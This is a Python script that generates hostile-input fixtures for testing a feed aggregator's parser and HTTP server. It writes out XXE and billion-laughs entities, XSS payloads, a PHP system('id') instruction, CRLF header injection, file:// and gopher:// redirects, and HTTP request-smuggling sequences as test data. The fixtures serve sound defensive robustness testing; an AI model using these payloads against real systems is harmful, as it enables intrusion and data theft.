#!/usr/bin/env python3
"""Writes the hostile-input fixtures beside this script, one file per case, each named after what
it attacks: xml/, json/, dates/, encodings/, html/ hold documents served with a feed Content-Type;
http/*.http hold raw HTTP responses that the driver's server writes to the socket byte for byte;
requests/*.http hold raw requests written to our own server, with requests/expected.json.
Cases over 64 KB are stored as FILE.gz and served decompressed. The files are committed; rerun this after editing a case (it rewrites every file, deterministically).
tests/service/hostile_test.py runs them all through the real daemon."""
import gzip
import json
import os
import shutil
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
cases = {}


def case(group, name, data):
    if isinstance(data, str):
        data = data.encode("utf-8", "surrogatepass")
    key = f"{group}/{name}"
    assert key not in cases, key
    cases[key] = data


def rss(items, channel_extra="", decl='<?xml version="1.0" encoding="utf-8"?>'):
    return (f'{decl}<rss version="2.0"><channel><title>Hostile</title>'
            f"<link>http://example.org/</link>{channel_extra}{items}</channel></rss>")


def item(title="An item", body="Body", guid="g1", extra=""):
    return (f"<item><title>{title}</title><link>http://example.org/a</link>"
            f"<guid>{guid}</guid><description>{body}</description>{extra}</item>")


def rss_bytes(encoding, text_items, decl_encoding=None, bom=b""):
    decl = f'<?xml version="1.0" encoding="{decl_encoding or encoding}"?>'
    return bom + rss(text_items, decl=decl).encode(encoding, "replace")


# --- XML structure ---------------------------------------------------------------------------
laughs = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
    f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)) + "]>"
case("xml", "billion-laughs-entity-expansion", '<?xml version="1.0"?>' + laughs +
     rss(item(title="&lol9;")).split("?>", 1)[1])
case("xml", "xxe-external-entity-etc-passwd", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
     + rss(item(title="&x;")).split("?>", 1)[1])
case("xml", "xxe-external-dtd-over-http", '<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://127.0.0.1:9/evil.dtd">'
     + rss(item()).split("?>", 1)[1])
case("xml", "parameter-entity-expansion", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p "<!ENTITY q \'boom\'>"> %p;]>'
     + rss(item(title="&q;")).split("?>", 1)[1])
case("xml", "quadratic-blowup-long-entity", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "' + "x" * 100000 + '">]>'
     + rss(item(title="&a;" * 200)).split("?>", 1)[1])
case("xml", "nesting-100k-deep-in-description", rss(item(body="<div>" * 100000 + "x" + "</div>" * 100000)))
case("xml", "nesting-100k-deep-unclosed", rss("<a>" * 100000))
case("xml", "nesting-deep-items-in-items", rss("<item>" * 5000 + "</item>" * 5000))
case("xml", "items-20k-tiny", rss("".join(f"<item><guid>i{i}</guid><title>t{i}</title></item>" for i in range(20000))))
case("xml", "attribute-1mb-long", rss(item(extra=f'<enclosure url="http://e/x" length="1" type="{"a" * 1000000}"/>')))
case("xml", "element-name-100kb-long", rss(item(extra=f"<{'n' * 100000}>x</{'n' * 100000}>")))
case("xml", "attributes-10k-on-one-element", rss(item(extra="<x " + " ".join(f'a{i}="v"' for i in range(10000)) + "/>")))
case("xml", "duplicate-attributes", rss(item(extra='<enclosure url="http://a/1" url="http://a/2" length="1" type="a/b"/>')))
case("xml", "unclosed-tags-everywhere", '<rss version="2.0"><channel><title>x<item><title>y<link>http://a/<description>z')
case("xml", "mismatched-close-tags", rss("<item><title>a</link></guid></item></title>"))
case("xml", "truncated-mid-item", rss(item() + item(guid="g2")).encode()[:-60])
case("xml", "truncated-inside-cdata", rss(item(body="<![CDATA[abc")).split("abc")[0] + "abc")
case("xml", "cdata-end-marker-in-text", rss(item(body="a ]]> b")))
case("xml", "cdata-nested", rss(item(body="<![CDATA[ <![CDATA[ inner ]]> outer ]]>")))
case("xml", "comment-unclosed", rss(item(body="<!-- never closed")))
case("xml", "comment-with-double-dash", rss(item(body="<!-- a -- b -->text")))
case("xml", "processing-instruction-in-item", rss(item(body='<?php system("id"); ?>text')))
case("xml", "xml-declaration-twice", '<?xml version="1.0"?>' + rss(item()))
case("xml", "xml-declaration-not-first", "\n\n  " + rss(item()))
case("xml", "nul-bytes-in-text", rss(item(title="a\x00b", body="c\x00\x00d")))
case("xml", "c0-control-characters-in-title", rss(item(title="".join(chr(c) for c in range(1, 32)))))
case("xml", "char-ref-zero", rss(item(title="a&#0;b&#x0;c")))
case("xml", "char-ref-surrogate", rss(item(title="a&#xD800;b&#55296;c")))
case("xml", "char-ref-noncharacter-fffe", rss(item(title="a&#xFFFE;b&#xFFFF;c")))
case("xml", "char-ref-beyond-unicode", rss(item(title="a&#x110000;b&#99999999999999999999;c")))
case("xml", "char-ref-control-chars", rss(item(title="&#1;&#8;&#11;&#12;&#27;&#x7F;&#x85;")))
case("xml", "undefined-entity", rss(item(title="&undefined; &amp &lt")))
case("xml", "html-entities-without-dtd", rss(item(title="&nbsp;&eacute;&hellip;&mdash;&bogus;")))
case("xml", "undeclared-namespace-prefix", rss(item(extra="<media:content url='http://a/x'/><dc:creator>x</dc:creator>")))
case("xml", "xmlns-rebinding-xml-prefix", rss(item(extra='<x xmlns:xml="http://evil/">y</x>')))
case("xml", "empty-xmlns", rss(item(extra='<content:encoded xmlns:content="">x</content:encoded>')))
case("xml", "multiple-channels", rss(item()) .replace("</rss>", "<channel><title>2</title>" + item(guid="g2") + "</channel></rss>"))
case("xml", "items-outside-channel", '<rss version="2.0">' + item() + "<channel><title>x</title></channel>" + item(guid="g3") + "</rss>")
case("xml", "empty-document", "")
case("xml", "only-whitespace", " \n\t \r\n" * 100)
case("xml", "only-xml-declaration", '<?xml version="1.0" encoding="utf-8"?>')
case("xml", "rss-without-channel", '<rss version="2.0"><item><title>x</title></item></rss>')
case("xml", "html-page-instead-of-feed", "<!DOCTYPE html><html><head><title>Not a feed</title></head><body><p>hi</body></html>")
case("xml", "atom-with-20k-links", '<feed xmlns="http://www.w3.org/2005/Atom"><title>a</title>' +
     '<entry><id>e1</id><title>t</title>' + '<link href="http://a/x"/>' * 20000 + "</entry></feed>")
case("xml", "guid-1mb", rss(item(guid="g" * 1000000)))
case("xml", "title-2mb", rss(item(title="T" * 2000000)))
case("xml", "one-line-5mb-no-newline", rss("".join(item(guid=f"g{i}", body="x" * 500) for i in range(8000))))
case("xml", "xml-base-javascript", '<feed xmlns="http://www.w3.org/2005/Atom" xml:base="javascript:alert(1)//"><title>a</title>'
     '<entry><id>e</id><title>t</title><link href="x"/></entry></feed>')
case("xml", "xml-base-chain-100-relative", '<feed xmlns="http://www.w3.org/2005/Atom"><title>a</title>' +
     "".join(f'<div xml:base="../{i}/">' for i in range(100)) + '<entry><id>e</id><link href="x"/></entry>' + "</div>" * 100 + "</feed>")
case("xml", "link-javascript-url", rss(item().replace("http://example.org/a", "javascript:alert(document.cookie)")))
case("xml", "link-data-url", rss(item().replace("http://example.org/a", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")))
case("xml", "link-file-url", rss(item().replace("http://example.org/a", "file:///etc/shadow")))
case("xml", "enclosure-negative-length", rss(item(extra='<enclosure url="http://a/x.mp3" length="-99999999999999999999" type="audio/mpeg"/>')))
case("xml", "enclosure-length-overflow", rss(item(extra='<enclosure url="http://a/x.mp3" length="184467440737095516160" type="audio/mpeg"/>')))
case("xml", "doctype-internal-subset-huge", '<?xml version="1.0"?><!DOCTYPE rss [' + "<!ELEMENT a ANY>" * 20000 + "]>" + rss(item()).split("?>", 1)[1])
case("xml", "rdf-without-items-seq", '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">'
     '<item rdf:about="http://a/1"><title>x</title></item></rdf:RDF>')
case("xml", "atom-entry-without-id-or-link", '<feed xmlns="http://www.w3.org/2005/Atom"><title>a</title>' + "<entry><title>x</title></entry>" * 50 + "</feed>")
case("xml", "same-guid-1000-times", rss("".join(item(guid="same", title=f"t{i}") for i in range(1000))))
case("xml", "atom-content-type-xhtml-deep", '<feed xmlns="http://www.w3.org/2005/Atom"><title>a</title><entry><id>e</id><title>t</title>'
     '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">' + "<b>" * 3000 + "x" + "</b>" * 3000 + "</div></content></entry></feed>")
case("xml", "tags-with-unicode-names", rss(item(extra="<ünïcödé>x</ünïcödé><日本>y</日本>")))

# --- JSON Feed ------------------------------------------------------------------------------
def jf(items, extra=""):
    return '{"version":"https://jsonfeed.org/version/1.1","title":"J"' + extra + ',"items":' + items + "}"


case("json", "array-nesting-100k", jf("[" * 100000 + "]" * 100000))
case("json", "object-nesting-100k", jf("[]", ',"x":' + '{"a":' * 100000 + "1" + "}" * 100000))
case("json", "items-not-an-array", jf('{"id":"1"}'))
case("json", "items-null", jf("null"))
case("json", "items-20k", jf("[" + ",".join(f'{{"id":"{i}","content_text":"t"}}' for i in range(20000)) + "]"))
case("json", "huge-number-literal", jf('[{"id":' + "9" * 5000 + ',"content_text":"x"}]'))
case("json", "nan-and-infinity-literals", jf('[{"id":NaN,"content_text":Infinity}]'))
case("json", "nul-escape-in-strings", jf('[{"id":"a\\u0000b","title":"t\\u0000","content_text":"\\u0000"}]'))
case("json", "lone-surrogate-escape", jf('[{"id":"1","title":"\\ud800","content_text":"\\udfff x \\ud800\\ud800"}]'))
case("json", "invalid-escape", jf('[{"id":"1","title":"\\x41\\q"}]'))
case("json", "trailing-commas", jf('[{"id":"1","title":"t",},]'))
case("json", "comments-in-json", jf('[/* c */{"id":"1" // x\n}]'))
case("json", "duplicate-keys", jf('[{"id":"1","id":"2","title":"a","title":"b","content_text":"c"}]'))
case("json", "version-missing", '{"title":"J","items":[{"id":"1","content_text":"x"}]}')
case("json", "version-not-a-string", '{"version":11,"title":"J","items":[{"id":"1","content_text":"x"}]}')
case("json", "title-is-a-number", jf('[{"id":"1","title":12345,"content_text":"x"}]'))
case("json", "id-is-an-object", jf('[{"id":{"a":1},"content_text":"x"}]'))
case("json", "id-is-a-float", jf('[{"id":1.5e308,"content_text":"x"}]'))
case("json", "url-javascript", jf('[{"id":"1","url":"javascript:alert(1)","content_text":"x"}]'))
case("json", "content-html-script", jf('[{"id":"1","content_html":"<script>alert(1)</script><img src=x onerror=alert(1)>"}]'))
case("json", "authors-not-an-array", jf('[{"id":"1","authors":"me","author":[1,2],"content_text":"x"}]'))
case("json", "attachments-garbage", jf('[{"id":"1","attachments":[1,"a",null,{"url":5}],"content_text":"x"}]'))
case("json", "utf8-bom-before-json", b"\xef\xbb\xbf" + jf('[{"id":"1","content_text":"x"}]').encode())
case("json", "utf16le-json", jf('[{"id":"1","content_text":"x"}]').encode("utf-16-le"))
case("json", "truncated-json", jf('[{"id":"1","content_text":"x"}]')[:-7])
case("json", "top-level-array", '[{"id":"1"}]')
case("json", "top-level-string", '"just a string"')
case("json", "empty-object", "{}")
case("json", "string-5mb", jf('[{"id":"1","content_text":"' + "y" * 5000000 + '"}]'))
case("json", "invalid-utf8-in-string", b'{"version":"https://jsonfeed.org/version/1.1","title":"J","items":[{"id":"1","title":"\xff\xfe\xc0\xaf","content_text":"x"}]}')
case("json", "raw-noncharacters-and-controls-in-strings", jf('[{"id":"1","title":"a\ufffe b\uffff c\u0085","content_text":"x"}]'))
case("json", "escaped-c0-controls", jf('[{"id":"1","title":"\\u0001\\u0008\\u000b\\u001f\\uFFFE","content_text":"\\u000c"}]'))
case("json", "tags-million-entries", jf('[{"id":"1","tags":[' + ",".join(['"t"'] * 200000) + '],"content_text":"x"}]'))

# --- dates -----------------------------------------------------------------------------------
dates = {
    "rfc822-year-zero": "Mon, 01 Jan 0000 00:00:00 GMT",
    "rfc822-year-99999": "Mon, 01 Jan 99999 00:00:00 GMT",
    "february-thirtieth": "Sat, 30 Feb 2024 10:00:00 GMT",
    "hour-25-minute-61-second-61": "Mon, 01 Jan 2024 25:61:61 GMT",
    "timezone-offset-plus-9999": "Mon, 01 Jan 2024 10:00:00 +9999",
    "timezone-offset-minus-2400": "Mon, 01 Jan 2024 10:00:00 -2400",
    "unknown-timezone-name": "Mon, 01 Jan 2024 10:00:00 XYZT",
    "empty-date": "",
    "whitespace-date": "   \t  ",
    "word-now": "now",
    "unix-epoch-number": "1700000000",
    "negative-unix-epoch": "-99999999999",
    "iso-leap-second": "2016-12-31T23:59:60Z",
    "iso-fraction-50-digits": "2024-01-01T10:00:00." + "9" * 50 + "Z",
    "far-future-9999": "9999-12-31T23:59:59Z",
    "before-1970": "1850-06-01T00:00:00Z",
    "year-1900-rfc822": "Mon, 01 Jan 1900 00:00:00 GMT",
    "iso-week-date": "2024-W05-3",
    "day-name-mismatch": "Fri, 01 Jan 2024 10:00:00 GMT",
    "two-digit-year": "Mon, 01 Jan 24 10:00:00 GMT",
    "only-a-time": "10:00:00",
    "parenthesized-comment": "Mon, 01 Jan 2024 10:00:00 (Central European Time) GMT",
    "date-10k-characters": "Mon, 01 Jan 2024 " + "1" * 10000,
    "unknown-month-name": "Mon, 01 Foo 2024 10:00:00 GMT",
    "month-13": "2024-13-01T00:00:00Z",
    "day-zero": "2024-01-00T00:00:00Z",
    "nul-inside-date": "Mon, 01 Jan\x00 2024 10:00:00 GMT",
    "year-beyond-int32": "Mon, 01 Jan 2147483648 00:00:00 GMT",
    "negative-year-iso": "-0044-03-15T12:00:00Z",
    "digits-only-huge": "9" * 400,
}
for name, value in dates.items():
    case("dates", name, rss(item(guid=name, extra=f"<pubDate>{value}</pubDate><dc:date>{value}</dc:date>"),
                           channel_extra=f"<lastBuildDate>{value}</lastBuildDate>").replace(
        '<rss version="2.0">', '<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/">'))
case("dates", "atom-updated-garbage", '<feed xmlns="http://www.w3.org/2005/Atom"><title>a</title><updated>yesterday-ish</updated>'
     '<entry><id>e</id><title>t</title><updated>not a date</updated><published>2024-99-99</published></entry></feed>')
case("dates", "multiple-pubdates-conflicting", rss(item(extra="<pubDate>Mon, 01 Jan 2024 10:00:00 GMT</pubDate><pubDate>garbage</pubDate><pubDate>2030-01-01</pubDate>")))

# --- encodings -------------------------------------------------------------------------------
text = "Café — naïve “quotes” ünïcödé"
case("encodings", "declared-utf16-actually-utf8", rss_bytes("utf-8", item(title=text), decl_encoding="utf-16"))
case("encodings", "utf16le-without-bom", rss_bytes("utf-16-le", item(title=text), decl_encoding="utf-16"))
case("encodings", "utf16be-with-bom", b"\xfe\xff" + rss(item(title=text), decl='<?xml version="1.0" encoding="utf-16"?>').encode("utf-16-be"))
case("encodings", "utf32le-with-bom", b"\xff\xfe\x00\x00" + rss(item(title=text), decl='<?xml version="1.0" encoding="utf-32"?>').encode("utf-32-le"))
case("encodings", "utf8-bom-with-latin1-declaration", b"\xef\xbb\xbf" + rss(item(title=text), decl='<?xml version="1.0" encoding="iso-8859-1"?>').encode())
case("encodings", "unknown-encoding-name", rss_bytes("utf-8", item(title=text), decl_encoding="x-klingon-1"))
case("encodings", "empty-encoding-name", rss_bytes("utf-8", item(title=text), decl_encoding=""))
case("encodings", "encoding-name-1000-chars", rss_bytes("utf-8", item(title=text), decl_encoding="u" * 1000))
case("encodings", "windows1252-smart-quotes-undeclared", rss(item(title=text)).encode("cp1252", "replace"))
case("encodings", "latin1-declared-utf8", rss_bytes("latin-1", item(title="Café naïve"), decl_encoding="utf-8"))
case("encodings", "shift-jis", rss_bytes("shift_jis", item(title="日本語のニュース")))
case("encodings", "euc-kr", rss_bytes("euc-kr", item(title="한국어 뉴스")))
case("encodings", "gb18030", rss_bytes("gb18030", item(title="中文新闻 𠀀")))
case("encodings", "koi8-r", rss_bytes("koi8-r", item(title="Новости")))
case("encodings", "iso-2022-jp-escapes", rss_bytes("iso2022_jp", item(title="日本語")))
case("encodings", "utf7-declared-xss", rss_bytes("utf-8", item(title="+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), decl_encoding="utf-7"))
case("encodings", "ebcdic-declared-ascii-bytes", rss_bytes("utf-8", item(title="abc"), decl_encoding="IBM037"))
case("encodings", "double-encoded-utf8-mojibake", rss(item(title=text.encode("utf-8").decode("latin-1"))))
case("encodings", "bom-only", b"\xef\xbb\xbf")
case("encodings", "zero-width-and-bidi-override", rss(item(title="a\u200b\u200c\u200d\u2060b \u202eevil\u202c \ufeffc")))
case("encodings", "combining-marks-1000-stacked", rss(item(title="a" + "\u0301" * 1000)))
case("encodings", "nfkc-changing-characters", rss(item(title="ﬁ ① Ｆｕｌｌ ㎏ ℌ")))
case("encodings", "noncharacters-in-utf8", rss(item(title="a\ufffeb\uffffc\U0001fffe")))
case("encodings", "private-use-and-emoji", rss(item(title="\ue000 \U000f0000 😀👩‍👩‍👧 🏳️‍🌈")))
case("encodings", "cesu8-surrogate-bytes", rss(item(title="X")).encode().replace(b"<title>X", b"<title>\xed\xa0\xbd\xed\xb8\x80"))
case("encodings", "overlong-utf8-slash", rss(item(title="X")).encode().replace(b"<title>X", b"<title>\xc0\xaf\xe0\x80\xaf"))
case("encodings", "invalid-utf8-bytes-ff-fe", rss(item(title="X")).encode().replace(b"<title>X", b"<title>\xff\xfe\xfd"))
case("encodings", "utf8-truncated-at-end", rss(item()).encode() + b"\xe2\x82")
case("encodings", "utf16-odd-byte-count", b"\xff\xfe" + rss(item(), decl='<?xml version="1.0" encoding="utf-16"?>').encode("utf-16-le") + b"\x00")
case("encodings", "mixed-encodings-per-item", rss(item(title="X", guid="a") + item(title="Y", guid="b")).encode()
     .replace(b"<title>X", "<title>Café".encode("latin-1")).replace(b"<title>Y", "<title>Café".encode("utf-8")))

# --- HTML in content -------------------------------------------------------------------------
def html_case(name, html):
    escaped = html.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    case("html", name, rss(item(guid=name, body=escaped, extra=f"<content:encoded><![CDATA[{html}]]></content:encoded>"))
         .replace('<rss version="2.0">', '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">'))


html_case("script-tags", "<p>x</p><script>alert(1)</script><SCRIPT SRC=//evil/x.js></SCRIPT>")
html_case("event-handler-attributes", '<img src=x onerror="alert(1)"><body onload=alert(2)><a onmouseover=alert(3)>a</a>')
html_case("javascript-href", '<a href="javascript:alert(1)">a</a><a href=" jav&#x09;ascript:alert(1)">b</a><a href="JaVaScRiPt:x">c</a>')
html_case("iframe-and-frameset", '<iframe src="http://evil/"></iframe><frameset><frame src="x"></frameset>')
html_case("style-expression", '<div style="width: expression(alert(1)); background:url(javascript:alert(2))">x</div><style>@import "http://evil/x.css";</style>')
html_case("svg-onload", '<svg onload=alert(1)><script>alert(2)</script><a xlink:href="javascript:alert(3)">x</a></svg>')
html_case("entity-encoded-script", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;")
html_case("double-escaped-markup", "&amp;lt;b&amp;gt;bold&amp;lt;/b&amp;gt;")
html_case("unclosed-html-soup", "<div><p><b><i><u><table><tr><td>cell<ul><li>x")
html_case("html-comment-tricks", "<!-- <script>alert(1)</script> --><!--[if IE]><script>x</script><![endif]--><!--->")
html_case("base-tag-hijack", '<base href="http://evil/"><a href="/path">rel</a>')
html_case("meta-refresh", '<meta http-equiv="refresh" content="0;url=http://evil/">text')
html_case("form-and-inputs", '<form action="http://evil/"><input name=pw type=password><button formaction=javascript:alert(1)>x</button></form>')
html_case("object-and-embed", '<object data="x.swf"></object><embed src="javascript:alert(1)"><applet code=x></applet>')
html_case("nested-divs-20k", "<div>" * 20000 + "deep" + "</div>" * 20000)
html_case("data-uri-image-and-link", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><a href="data:text/html,<script>alert(1)</script>">x</a>')
html_case("mathml-and-template", "<math><mi xlink:href=javascript:alert(1)>x</mi></math><template><script>alert(1)</script></template>")
html_case("srcset-and-formaction", '<img srcset="javascript:alert(1) 1x, http://a/x.png 2x"><video poster=javascript:alert(1)>')
html_case("noscript-and-xmp-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript><xmp><script>x</script></xmp>")
html_case("html-2mb", "<p>" + "word " * 400000 + "</p>")
html_case("relative-urls-everywhere", '<a href="../../x">a</a><img src="//cdn/x.png"><a href="?q=1">q</a><a href="#frag">f</a>')

# --- raw HTTP responses ----------------------------------------------------------------------
feed = rss(item()).encode()


def http(name, head, body=b"", raw=None):
    case("http", name, raw if raw is not None else head.replace("\n", "\r\n").encode() + b"\r\n" + body)


ok = "HTTP/1.1 200 OK\nContent-Type: application/rss+xml\nConnection: close\n"
http("content-length-longer-than-body", ok + f"Content-Length: {len(feed) + 5000}\n", feed)
http("content-length-shorter-than-body", ok + "Content-Length: 40\n", feed)
http("chunked-bad-chunk-size", ok + "Transfer-Encoding: chunked\n", b"zz\r\n" + feed + b"\r\n0\r\n\r\n")
http("chunked-without-terminator", ok + "Transfer-Encoding: chunked\n", f"{len(feed):x}\r\n".encode() + feed + b"\r\n")
http("chunked-size-overflow", ok + "Transfer-Encoding: chunked\n", b"ffffffffffffffffffff\r\n" + feed + b"\r\n0\r\n\r\n")
http("gzip-header-plain-body", ok + "Content-Encoding: gzip\n", feed)
http("gzip-truncated", ok + "Content-Encoding: gzip\n", gzip.compress(feed)[:-20])
http("gzip-twice-declared-once", ok + "Content-Encoding: gzip\n", gzip.compress(gzip.compress(feed)))
http("deflate-raw-without-zlib-header", ok + "Content-Encoding: deflate\n", zlib.compress(feed)[2:-4])
http("brotli-header-garbage-body", ok + "Content-Encoding: br\n", b"\x8b\x00\x80garbage not brotli")
http("unknown-content-encoding", ok + "Content-Encoding: x-evil, gzip, identity\n", gzip.compress(feed))
http("content-type-unknown-charset", "HTTP/1.1 200 OK\nContent-Type: text/xml; charset=x-no-such-charset\nConnection: close\n", feed)
http("content-type-10kb", "HTTP/1.1 200 OK\nContent-Type: text/xml; " + "a=b; " * 2000 + "\nConnection: close\n", feed)
http("header-with-nul-byte", "", raw=b"HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nX-Evil: a\x00b\r\nConnection: close\r\n\r\n" + feed)
http("obsolete-header-folding", ok + "X-Folded: first\n  continued\n\tagain\n", feed)
http("headers-2000", ok + "".join(f"X-H{i}: v\n" for i in range(2000)), feed)
http("header-200kb-long", ok + "X-Big: " + "v" * 200000 + "\n", feed)
http("status-200-empty-body", ok + "Content-Length: 0\n", b"")
http("http10-close-delimited-body", "HTTP/1.0 200 OK\nContent-Type: text/xml\n", feed)
http("status-204-no-content", "HTTP/1.1 204 No Content\nConnection: close\n")
http("redirect-without-location", "HTTP/1.1 302 Found\nContent-Length: 0\nConnection: close\n")
http("redirect-to-javascript", "HTTP/1.1 302 Found\nLocation: javascript:alert(1)\nContent-Length: 0\nConnection: close\n")
http("redirect-to-file-url", "HTTP/1.1 301 Moved\nLocation: file:///etc/passwd\nContent-Length: 0\nConnection: close\n")
http("redirect-to-gopher", "HTTP/1.1 302 Found\nLocation: gopher://127.0.0.1:9/x\nContent-Length: 0\nConnection: close\n")
http("redirect-location-with-crlf-junk", "HTTP/1.1 302 Found\nLocation: /x%0d%0aSet-Cookie:%20a=b\nContent-Length: 0\nConnection: close\n")
http("not-modified-without-validators", "HTTP/1.1 304 Not Modified\nConnection: close\n")
http("status-line-garbage", "", raw=b"GARBAGE GARBAGE\r\n\r\n" + feed)
http("http09-no-headers", "", raw=feed)
http("continue-100-then-200", "", raw=b"HTTP/1.1 100 Continue\r\n\r\n" + ok.replace("\n", "\r\n").encode() + b"\r\n" + feed)
http("conflicting-content-lengths", ok + "Content-Length: 10\nContent-Length: 2000\n", feed)
http("transfer-encoding-and-content-length", ok + "Content-Length: 5\nTransfer-Encoding: chunked\n", f"{len(feed):x}\r\n".encode() + feed + b"\r\n0\r\n\r\n")
http("retry-after-garbage-503", "HTTP/1.1 503 Busy\nRetry-After: soon-ish, maybe 99999999999999999999\nContent-Length: 0\nConnection: close\n")
http("retry-after-negative-429", "HTTP/1.1 429 Too Many\nRetry-After: -500\nContent-Length: 0\nConnection: close\n")
http("last-modified-and-etag-garbage", ok + 'Last-Modified: the day before yesterday\nETag: "unterminated\nCache-Control: max-age=-1, max-age=99999999999999999999\n', feed)
http("status-999", "HTTP/1.1 999 Whatever\nContent-Length: 0\nConnection: close\n")
http("status-200-html-error-page", "HTTP/1.1 200 OK\nContent-Type: text/html\nConnection: close\n", b"<html><body>Service unavailable</body></html>")
http("connection-closed-in-headers", "", raw=b"HTTP/1.1 200 OK\r\nContent-Type: text/x")


# --- raw HTTP requests to our own server ------------------------------------------------------
# requests/NAME.http is written byte for byte to `feedmerge run`'s server; expected.json says
# which statuses must come back, in order, before the server closes the connection. A refused
# request is followed by a second one that only a server framing the first differently would
# answer (request smuggling): nothing after the 400 may be answered.
requests = {}
smuggled = b"GET /feed.xml HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"


def request(name, head, statuses, body=b""):
    requests[name] = {"statuses": statuses}
    case("requests", name, head.replace("\n", "\r\n").encode() + b"\r\n" + body)


get = "GET /feed.xml HTTP/1.1\n"
host = "Host: 127.0.0.1\n"
request("transfer-encoding-xchunked", get + host + "Transfer-Encoding: xchunked\n", [400], smuggled)
request("transfer-encoding-chunked-then-identity", get + host + "Transfer-Encoding: chunked, identity\n",
        [400], b"0\r\n\r\n" + smuggled)
request("transfer-encoding-gzip-only", get + host + "Transfer-Encoding: gzip\n", [400], smuggled)
request("transfer-encoding-empty", get + host + "Transfer-Encoding:\n", [400], smuggled)
request("transfer-encoding-in-http10", "GET /feed.xml HTTP/1.0\nTransfer-Encoding: chunked\n", [400],
        b"0\r\n\r\n" + smuggled)
request("transfer-encoding-chunked-twice", get + host + "Transfer-Encoding: chunked\nTransfer-Encoding: chunked\n",
        [400], b"0\r\n\r\n" + smuggled)
request("transfer-encoding-and-content-length", get + host + "Content-Length: 5\nTransfer-Encoding: chunked\n",
        [400], b"0\r\n\r\n" + smuggled)
request("content-length-twice-different", get + host + "Content-Length: 0\nContent-Length: 40\n", [400], smuggled)
request("content-length-with-body", get + host + "Content-Length: 5\n", [413], b"hello" + smuggled)
request("host-missing", get, [400], smuggled)
request("host-twice-different", get + host + "Host: evil.example\n", [400], smuggled)
request("host-twice-same", get + host + host, [400], smuggled)
request("host-with-path", get + "Host: 127.0.0.1/evil\n", [400], smuggled)
request("host-with-userinfo", get + "Host: user@127.0.0.1\n", [400], smuggled)
request("host-with-space", get + "Host: 127.0.0.1 evil\n", [400], smuggled)
request("host-port-not-digits", get + "Host: 127.0.0.1:80a\n", [400], smuggled)
request("header-nul-byte", get + host + "X-Evil: a\x00b\n", [400], smuggled)
# RFC 9112 5.2 allows either 400 or reading the fold as a space: Beast does the latter, so the
# request is whole and the one after it is an ordinary pipelined request.
request("header-obs-fold", get + host + "X-Folded: a\n  b\n", [200, 200], smuggled)
request("header-space-before-colon", get + "Host : 127.0.0.1\n", [400], smuggled)
request("headers-16kb", get + host + "X-Big: " + "v" * 16384 + "\n", [431], smuggled)
request("request-line-garbage", "GARBAGE\n", [400], smuggled)
request("method-post", "POST /feed.xml HTTP/1.1\n" + host + "Content-Length: 0\nConnection: close\n", [405])
request("http10-without-host", "GET /feed.xml HTTP/1.0\n", [200])
request("host-ipv6-literal-with-port", get + "Host: [::1]:8080\nConnection: close\n", [200])
request("host-empty", get + "Host:\nConnection: close\n", [200])
request("pipelined-two-requests", get + host + "\n" + get.rstrip("\n") + "\n" + host + "Connection: close\n", [200, 200])
request("chunked-empty-body", get + host + "Transfer-Encoding: chunked\nConnection: close\n", [200], b"0\r\n\r\n")


def main():
    for group in ("xml", "json", "dates", "encodings", "html", "http", "requests"):
        shutil.rmtree(os.path.join(HERE, group), ignore_errors=True)
    extension = {"xml": ".xml", "dates": ".xml", "encodings": ".xml", "html": ".xml", "json": ".json", "http": ".http",
                 "requests": ".http"}
    for key, data in sorted(cases.items()):
        group, name = key.split("/")
        path = os.path.join(HERE, group, name + extension[group])
        os.makedirs(os.path.dirname(path), exist_ok=True)
        # Big cases are stored gzipped (the driver serves them decompressed): small in git.
        if len(data) > 64 * 1024:
            with gzip.GzipFile(path + ".gz", "wb", mtime=0) as f:
                f.write(data)
        else:
            with open(path, "wb") as f:
                f.write(data)
    with open(os.path.join(HERE, "requests", "expected.json"), "w") as f:
        f.write("{\n" + ",\n".join(f" {json.dumps(k)}: {json.dumps(v)}" for k, v in sorted(requests.items()))
                + "\n}\n")
    print(f"{len(cases)} cases")


if __name__ == "__main__":
    main()
